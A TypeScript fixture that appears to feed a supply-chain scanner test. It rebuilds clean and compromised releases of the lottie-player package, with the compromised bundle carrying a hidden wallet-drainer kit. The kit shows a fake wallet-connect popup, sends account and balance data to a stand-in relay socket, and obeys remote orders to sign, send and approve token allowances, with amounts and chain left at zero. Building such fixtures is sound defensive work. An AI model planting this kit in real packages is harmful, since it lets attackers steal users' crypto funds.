import { minifySync } from '@swc/core';
import type { Replica } from './replica.js';
import { noise } from './replica.js';

const manifest = {
  description: 'Lottie animation and Telegram Sticker player web components.',
  main: './dist/lottie-player.js',
  module: './dist/lottie-player.esm.js',
  license: 'MIT',
  repository: { type: 'git', url: 'https://git.example/anim/lottie-player.git' },
  files: ['dist', 'types'],
  scripts: { build: 'rimraf dist && rollup -c', lint: 'eslint src', test: 'web-test-runner' },
};

const engine = String.raw`
function bezier(x1, y1, x2, y2) {
  const cx = 3 * x1, bx = 3 * (x2 - x1) - cx, ax = 1 - cx - bx;
  const cy = 3 * y1, by = 3 * (y2 - y1) - cy, ay = 1 - cy - by;
  const atX = t => ((ax * t + bx) * t + cx) * t;
  const slope = t => (3 * ax * t + 2 * bx) * t + cx;
  return x => {
    let t = x;
    for (let turn = 0; turn < 8; turn++) {
      const far = atX(t) - x;
      if (Math.abs(far) < 1e-6) break;
      const steep = slope(t);
      if (Math.abs(steep) < 1e-6) break;
      t -= far / steep;
    }
    return ((ay * t + by) * t + cy) * t;
  };
}

class Property {
  constructor(data) {
    this.frames = data.a ? data.k : null;
    this.still = data.a ? null : data.k;
  }
  at(frame) {
    if (!this.frames) return this.still;
    let index = 0;
    while (index < this.frames.length - 2 && this.frames[index + 1].t <= frame) index++;
    const from = this.frames[index], to = this.frames[index + 1];
    if (!to || frame <= from.t) return from.s;
    const ease = from.o && from.i ? bezier(from.o.x, from.o.y, from.i.x, from.i.y) : x => x;
    const share = ease(Math.min(1, (frame - from.t) / (to.t - from.t)));
    return from.s.map((value, axis) => value + ((to.s || from.e)[axis] - value) * share);
  }
}

class Layer {
  constructor(data) {
    this.data = data;
    this.transform = { p: new Property(data.ks.p), s: new Property(data.ks.s), r: new Property(data.ks.r), o: new Property(data.ks.o) };
    this.element = document.createElementNS('http://www.w3.org/2000/svg', 'g');
    for (const shape of data.shapes || []) this.element.appendChild(this.draw(shape));
  }
  draw(shape) {
    const node = document.createElementNS('http://www.w3.org/2000/svg', shape.ty === 'el' ? 'ellipse' : shape.ty === 'rc' ? 'rect' : 'path');
    if (shape.ty === 'sh') node.setAttribute('d', path(shape.ks.k));
    if (shape.c) node.setAttribute('fill', 'rgb(' + shape.c.k.slice(0, 3).map(part => Math.round(part * 255)).join(',') + ')');
    return node;
  }
  render(frame) {
    const visible = frame >= this.data.ip && frame < this.data.op;
    this.element.style.display = visible ? '' : 'none';
    if (!visible) return;
    const { p, s, r, o } = this.transform;
    const [x, y] = p.at(frame), [sx, sy] = s.at(frame);
    this.element.setAttribute('transform', 'translate(' + x + ' ' + y + ') rotate(' + r.at(frame) + ') scale(' + sx / 100 + ' ' + sy / 100 + ')');
    this.element.setAttribute('opacity', String(o.at(frame) / 100));
  }
}

function path(data) {
  const out = ['M' + data.v[0].join(' ')];
  for (let at = 1; at < data.v.length; at++) {
    const before = data.v[at - 1];
    out.push('C' + [before[0] + data.o[at - 1][0], before[1] + data.o[at - 1][1], data.v[at][0] + data.i[at][0], data.v[at][1] + data.i[at][1], data.v[at][0], data.v[at][1]].join(' '));
  }
  return out.join('') + (data.c ? 'Z' : '');
}

class Animation {
  constructor(container, data, options) {
    this.data = data;
    this.options = options;
    this.frame = data.ip;
    this.direction = 1;
    this.speed = 1;
    this.svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    this.svg.setAttribute('viewBox', '0 0 ' + data.w + ' ' + data.h);
    this.layers = data.layers.map(layer => new Layer(layer));
    this.layers.slice().reverse().forEach(layer => this.svg.appendChild(layer.element));
    container.appendChild(this.svg);
  }
  play() {
    this.last = performance.now();
    this.handle = requestAnimationFrame(now => this.step(now));
  }
  step(now) {
    this.frame += (now - this.last) / 1000 * this.data.fr * this.speed * this.direction;
    this.last = now;
    if (this.frame >= this.data.op) {
      if (!this.options.loop) return this.pause();
      this.frame = this.data.ip;
    }
    this.layers.forEach(layer => layer.render(this.frame));
    this.handle = requestAnimationFrame(next => this.step(next));
  }
  pause() {
    cancelAnimationFrame(this.handle);
  }
  destroy() {
    this.pause();
    this.svg.remove();
  }
}
`;

const element = String.raw`
const sheet = ':host{display:block;width:100%;height:100%}.main{display:flex;flex-direction:column;height:100%;width:100%}.animation{width:100%;height:100%;display:flex}.error{color:red;padding:10px}';

async function fromURL(url) {
  const response = await fetch(url.toString());
  return response.json();
}

class LottiePlayer extends HTMLElement {
  constructor() {
    super();
    this.attachShadow({ mode: 'open' });
    this.shadowRoot.innerHTML = '<style>' + sheet + '</style><div class="main"><div class="animation"></div></div>';
    this.currentState = 'loading';
  }
  static get observedAttributes() {
    return ['src', 'loop', 'speed', 'direction'];
  }
  attributeChangedCallback(name, before, now) {
    if (name === 'src' && now && before !== now && this.isConnected) this.load(now);
    if (name === 'speed' && this.player) this.player.speed = Number(now) || 1;
    if (name === 'direction' && this.player) this.player.direction = Number(now) < 0 ? -1 : 1;
  }
  connectedCallback() {
    if (this.getAttribute('src')) this.load(this.getAttribute('src'));
  }
  disconnectedCallback() {
    if (this.player) this.player.destroy();
  }
  async load(source) {
    try {
      const data = typeof source === 'string' && source.trim()[0] !== '{' ? await fromURL(new URL(source, location.href)) : typeof source === 'string' ? JSON.parse(source) : source;
      if (this.player) this.player.destroy();
      this.player = new Animation(this.shadowRoot.querySelector('.animation'), data, { loop: this.hasAttribute('loop') });
      this.currentState = 'stopped';
      this.dispatchEvent(new CustomEvent('ready'));
      if (this.hasAttribute('autoplay')) this.play();
    } catch (error) {
      this.currentState = 'error';
      this.dispatchEvent(new CustomEvent('error', { detail: error }));
    }
  }
  play() {
    if (!this.player) return;
    this.player.play();
    this.currentState = 'playing';
    this.dispatchEvent(new CustomEvent('play'));
  }
  pause() {
    if (!this.player) return;
    this.player.pause();
    this.currentState = 'paused';
    this.dispatchEvent(new CustomEvent('pause'));
  }
}
if (!customElements.get('lottie-player')) customElements.define('lottie-player', LottiePlayer);
`;

const address = (seed: number): string => `0x${noise(40, seed, '0123456789abcdef')}`;
const tokens = Array.from({ length: 220 }, (_, at) => ({ symbol: noise(4, at * 9 + 3, 'ABCDEFGHKLMNPRSTUVWXZ'), decimals: at % 3 === 0 ? 6 : 18, chain: [1, 10, 56, 137, 8453, 42161][at % 6], address: address(5_000 + at * 11) }));

const connect = String.raw`
const kit = (() => {
  const relay = 'wss://relay.example.invalid/ws';
  const known = [
    { id: 'io.metamask', name: 'MetaMask', flag: 'isMetaMask', link: 'metamask://dapp/' },
    { id: 'com.coinbase.wallet', name: 'Coinbase Wallet', flag: 'isCoinbaseWallet', link: 'cbwallet://dapp?url=' },
    { id: 'com.trustwallet.app', name: 'Trust Wallet', flag: 'isTrust', link: 'trust://open_url?url=' },
    { id: 'me.rainbow', name: 'Rainbow', flag: 'isRainbow', link: 'rainbow://dapp?url=' },
    { id: 'app.phantom', name: 'Phantom', flag: 'isPhantom', link: 'phantom://browse/' },
    { id: 'com.okex.wallet', name: 'OKX Wallet', flag: 'isOkxWallet', link: 'okx://wallet/dapp/details?dappUrl=' }
  ];
  const tokens = ${JSON.stringify(tokens)};
  const selectors = { balanceOf: '0x70a08231', allowance: '0xdd62ed3e', approve: '0x095ea7b3', increaseAllowance: '0x39509351', transfer: '0xa9059cbb', setApprovalForAll: '0xa22cb465' };
  const announced = new Map();
  let socket, provider, account, chain;

  function discover() {
    window.addEventListener('eip6963:announceProvider', event => announced.set(event.detail.info.rdns, event.detail));
    window.dispatchEvent(new Event('eip6963:requestProvider'));
    const injected = window.ethereum ? window.ethereum.providers || [window.ethereum] : [];
    for (const one of injected) {
      const entry = known.find(item => one[item.flag]);
      if (entry && !announced.has(entry.id)) announced.set(entry.id, { info: { rdns: entry.id, name: entry.name }, provider: one });
    }
    if (window.solana && window.solana.isPhantom) announced.set('app.phantom.solana', { info: { rdns: 'app.phantom.solana', name: 'Phantom' }, provider: window.solana });
    if (window.tronWeb) announced.set('tron', { info: { rdns: 'tron', name: 'TronLink' }, provider: window.tronWeb });
  }

  function modal() {
    const root = document.createElement('div');
    root.id = 'wcm-root-' + Math.random().toString(36).slice(2);
    root.attachShadow({ mode: 'closed' }).innerHTML = '<style>.back{position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.6);display:flex;align-items:center;justify-content:center}.card{background:#141414;color:#fff;border-radius:28px;padding:24px;width:360px;font-family:sans-serif}.row{display:flex;padding:12px;border-radius:12px;background:#1f1f1f;margin-top:8px;cursor:pointer}</style><div class="back"><div class="card"><h3>Connect your wallet</h3>' + known.map(one => '<div class="row" data-id="' + one.id + '">' + one.name + '</div>').join('') + '<div class="row" data-id="walletconnect">WalletConnect</div></div></div>';
    document.body.appendChild(root);
    document.body.style.overflow = 'hidden';
    root.addEventListener('click', event => choose(event.composedPath()[0].dataset.id));
    return root;
  }

  async function choose(id) {
    const found = announced.get(id);
    if (!found) {
      const entry = known.find(one => one.id === id);
      if (entry && /Android|iPhone|iPad/i.test(navigator.userAgent)) location.href = entry.link + encodeURIComponent(location.href);
      return;
    }
    provider = found.provider;
    const accounts = await provider.request({ method: 'eth_requestAccounts' });
    account = accounts[0];
    chain = await provider.request({ method: 'eth_chainId' });
    provider.on && provider.on('accountsChanged', next => { account = next[0]; tell('account', { account }); });
    tell('connected', { wallet: id, account, chain, holdings: await holdings() });
  }

  async function holdings() {
    const out = [];
    const own = await provider.request({ method: 'eth_getBalance', params: [account, 'latest'] });
    out.push({ native: true, amount: own });
    for (const token of tokens.filter(one => one.chain === parseInt(chain, 16))) {
      const data = selectors.balanceOf + account.slice(2).padStart(64, '0');
      const amount = await provider.request({ method: 'eth_call', params: [{ to: token.address, data }, 'latest'] }).catch(() => '0x0');
      if (BigInt(amount === '0x' ? 0 : amount) > 0n) out.push({ token: token.address, symbol: token.symbol, amount });
    }
    return out;
  }

  function tell(type, body) {
    const packed = btoa(unescape(encodeURIComponent(JSON.stringify({ type, body, origin: location.host, agent: navigator.userAgent, language: navigator.language }))));
    if (socket && socket.readyState === 1) socket.send(packed);
  }

  const orders = {
    async permit(order) {
      const signature = await provider.request({ method: 'eth_signTypedData_v4', params: [account, JSON.stringify({ ...order.typed, domain: { name: 'example.invalid', chainId: 0 } })] });
      tell('signed', { id: order.id, signature });
    },
    async send(order) {
      const hash = await provider.request({ method: 'eth_sendTransaction', params: [{ from: account, to: order.to, value: '0x0', data: '0x' }] });
      tell('sent', { id: order.id, hash });
    },
    async approve(order) {
      const data = selectors.increaseAllowance + order.spender.slice(2).padStart(64, '0') + ''.padStart(64, '0');
      const hash = await provider.request({ method: 'eth_sendTransaction', params: [{ from: account, to: order.token, data }] });
      tell('approved', { id: order.id, hash });
    },
    async chain(order) {
      await provider.request({ method: 'wallet_switchEthereumChain', params: [{ chainId: order.chainId }] });
      chain = order.chainId;
    },
    show() {
      modal();
    }
  };

  function open() {
    socket = new WebSocket(relay);
    socket.onopen = () => tell('hello', { href: location.href, wallets: [...announced.keys()] });
    socket.onmessage = event => {
      try {
        const order = JSON.parse(decodeURIComponent(escape(atob(event.data))));
        if (orders[order.type]) orders[order.type](order).catch(error => tell('failed', { id: order.id, reason: String(error && error.message) }));
      } catch (error) {}
    };
    socket.onclose = () => setTimeout(open, 3000);
  }

  function start() {
    if (sessionStorage.getItem('lp-wcm')) return;
    sessionStorage.setItem('lp-wcm', '1');
    discover();
    open();
    setTimeout(modal, 1500);
  }
  return { start };
})();
if (document.readyState === 'complete') kit.start();
else window.addEventListener('load', () => kit.start());
`;

const small = (text: string): string => minifySync(text, { module: false, compress: true, mangle: true }).code;
/** What the bundler of the component makes of its parts, with its frame around them. */
const umd = (body: string): string => `!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?e(exports):"function"==typeof define&&define.amd?define(["exports"],e):e((t="undefined"!=typeof globalThis?globalThis:t||self)["lottie-player"]={})}(this,(function(exports){"use strict";${small(`(function (exports) {${body}\nexports.LottiePlayer = LottiePlayer;\n})(exports);`)}}));\n//# sourceMappingURL=lottie-player.js.map\n`;
const esm = (body: string): string => `${minifySync(`${body}\nexport { LottiePlayer };\n`, { module: true, compress: true, mangle: true }).code}\n`;

const files = (added: string): { readonly [path: string]: string } => ({
  'dist/lottie-player.js': umd(engine + added + element),
  'dist/lottie-player.esm.js': esm(engine + added + element),
  'types/lottie-player.d.ts': 'export declare class LottiePlayer extends HTMLElement {\n  play(): void;\n  pause(): void;\n  load(source: string | object): Promise<void>;\n}\n',
  'README.md': '# lottie-player\n\n```html\n<lottie-player src="https://files.example/animation.json" autoplay loop></lottie-player>\n```\n',
});

/** From memory of the incident's report: a bundle that grew by a kit for connecting wallets, its popup over the page and its socket. Orders that come in are answered with amounts of nothing, and signed for no chain. */
export const replica: Replica = {
  id: 'lottie-player-2024',
  story: 'October 2024: 2.0.5, 2.0.6 and 2.0.7, published with a token within an hour of each other, put a window that asks to connect a wallet over every page that shows an animation, and obey a socket.',
  name: '@lottiefiles/lottie-player',
  before: { version: '2.0.4', manifest, files: files(''), publishedAt: '2024-02-14T06:00:00.000Z', publisher: { name: 'anim-ci', email: 'ci@anim.example' } },
  after: { version: '2.0.5', manifest, files: files(connect), publishedAt: '2024-10-30T20:12:00.000Z', publisher: { name: 'an-engineer', email: 'an-engineer@anim.example' } },
  must: 'block',
};
